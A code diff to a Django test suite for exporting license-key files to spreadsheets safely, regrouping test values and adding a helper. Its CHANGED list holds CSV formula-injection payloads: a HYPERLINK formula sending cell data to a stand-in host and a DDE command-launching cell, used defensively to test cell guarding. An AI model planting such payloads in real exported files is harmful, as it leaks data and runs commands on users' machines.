@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+from dataclasses import replace
 
 import pytest
 from django.core.management import CommandError, call_command
@@ -10,9 +11,10 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from licensing.services import issue_license
-from pools.key_files import EXPORT_COLUMNS, ReadOptions, open_key_file
+from pools.key_files import ReadOptions, open_key_file
 from pools.key_files.guards import guard_cell, unguard_cell
-from pools.models import KeyEvent, KeyImport
+from pools.key_files.writing import EXPORT_COLUMNS
+from pools.models import KeyEvent
 from pools.services.imports import import_keys
 from pools.services.keys import pop_keys, withdraw_key
 from tests.cast import add_keys, make_policy, make_product, numbered
@@ -20,11 +22,19 @@ from tests.console import page, signed_in, staff
 
 # What a spreadsheet changes or runs, in some language: numbers, dates, times, booleans, formulas.
 CHANGED = [
-    *("00123456", "0000077001", "1234567890123456", "12345678", "1E5", "2E10000077", "12e45678", "1.50", "1,500", "50%"),
+    *("00123456", "0000077001", "1234567890123456", "12345678", "1E5", "2E10000077", "12e45678", "1.50", "1,500"),
     *("3-12-2077", "2077-01-01", "03.12.2077", "1/2", "MAY-2077", "MAI2077", "5-MAR", "DEC01-77", "12:30:00", "10 PM"),
     *("2077-01-01T10:00:00+00:00", "TRUE", "falsch", "$12345678", "12345678 kg", "=1+1+2+77", "+7700001", "-7700001"),
-    *("@SUM(A1:A9)", "＝1+1+2+77", "＋7700001", "－7700001", "＠SUM(A1)", "'00123456", '="00123456"', "#N/A", "１２３４５６７８"),
-    *('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|'/c calc'!A0", "a;b,c\td", '"quoted"', "(12345678)"),
+    *("@SUM(A1:A9)", "＝1+1+2+77", "＋7700001", "－7700001", "＠SUM(A1)", "'00123456", '="00123456"', "#N/A"),
+    *(
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "=cmd|'/c calc'!A0",
+        "a;b,c\td",
+        '"quoted"',
+        "(12345678)",
+        "50%",
+        "１２３４５６７８",
+    ),
 ]
 PLAIN = ["AB12-CD34-EF56", "A7F3X-99QXB-41ZPC", "x1y2z3w4", "GIFT-0001-A", "01a20866-333d-73e7-b6c6-6d3a7c07d222"]
 
@@ -49,7 +59,7 @@ class TestGuards:
     def test_what_a_spreadsheet_leaves_is_written_plainly(self):
         assert [text for text in [*PLAIN, ""] if guard_cell(text) != text] == []
 
-    @given(st.one_of(st.text(), st.text('="&a1', max_size=12), st.text("a\"b1", min_size=250, max_size=600)))
+    @given(st.one_of(st.text(), st.text('="&a1', max_size=12), st.text('a"b1', min_size=250, max_size=600)))
     @example('="a"&"b"')
     @example("0" * 256)
     def test_a_guard_is_taken_off_exactly(self, text):
@@ -70,7 +80,7 @@ class TestColumns:
         owner = acme.user(email="carl@customer.test")
         report = import_keys(policy=acme.policy, files=[key_file(*numbered(2))], audit=audit, name="ACME PO 4711")
         pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "Order 1"))
-        license = issue(acme.policy, owner, audit_of(audit, "Order 2"))
+        license = issue_license(policy=acme.policy, owner=owner, audit=audit_of(audit, "Order 2"))
 
         first, second = rows_of(run("--policy", acme.policy.pk, "--state", "popped"))
 
@@ -236,6 +246,10 @@ class TestForSpreadsheet:
 def key_file(*texts):
     file = io.BufferedReader(io.BytesIO("".join(f"{text}\n" for text in texts).encode()))
     return open_key_file(file, ReadOptions(format="text", header=False))
+
+
+def audit_of(audit, reference):
+    return replace(audit, reference=reference)
 
 
 def shown(row):
